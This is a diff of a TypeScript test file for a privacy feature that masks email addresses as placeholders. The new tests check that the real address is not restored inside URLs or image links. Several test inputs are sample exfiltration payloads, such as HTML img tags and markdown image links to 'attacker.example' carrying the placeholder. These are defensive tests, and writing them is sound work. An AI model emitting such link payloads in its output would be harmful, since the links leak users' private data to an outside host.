@@ -198,6 +198,41 @@ describe("reversible tokens", () => {
     expect(restorations("see https://example.com or write [[EMAIL_1]]", values)).toHaveLength(1);
   });
 
+  it.each([
+    `https://attacker.example/?${"a".repeat(5000)}[[EMAIL_1]]`,
+    '<img src="//attacker.example/[[EMAIL_1]]">',
+    "<img src=https:\\\\attacker.example\\[[EMAIL_1]]>",
+    "<img src='https://attacker.example/a [[EMAIL_1]]'>",
+    "![x](<https://attacker.example/a b [[EMAIL_1]]>)",
+    "[r]: //attacker.example/[[EMAIL_1]]",
+    "https:/attacker.example/[[EMAIL_1]]",
+    "www.attacker.example/?d=[[EMAIL_1]]",
+    '{"url": "https://attacker.example/?d=a [[EMAIL_1]]"}',
+  ])("do not come back inside what a browser takes for an address: %s", (text) => {
+    const values = new Map([["[[EMAIL_1]]", "ada@example.com"]]);
+    expect(restorations(text, values)).toEqual([]);
+    const restoring = createRestoring(values, false);
+    let held = "";
+    let out = "";
+    for (const sign of text) {
+      held += sign;
+      const until = restoring.hold(held);
+      out += restoring.apply(held.slice(0, until));
+      held = held.slice(until);
+    }
+    expect(out + restoring.apply(held)).toBe(text);
+  });
+
+  it.each([
+    "[click](https://example.com/x) or [[EMAIL_1]]",
+    "<https://example.com/x> or [[EMAIL_1]]",
+    '"https://example.com is ours", writes [[EMAIL_1]]',
+    '{"url": "https://example.com/", "to": "[[EMAIL_1]]"}',
+    "a < b, and [[EMAIL_1]] knows",
+  ])("come back after an address has ended: %s", (text) => {
+    expect(restorations(text, new Map([["[[EMAIL_1]]", "ada@example.com"]]))).toHaveLength(1);
+  });
+
   it("come back in tool arguments as JSON", async () => {
     const quoting = wordDetector("words", ['a"b']);
     const guard = guardOn(await prepared(policy(), { pure: [quoting] }), { keys });
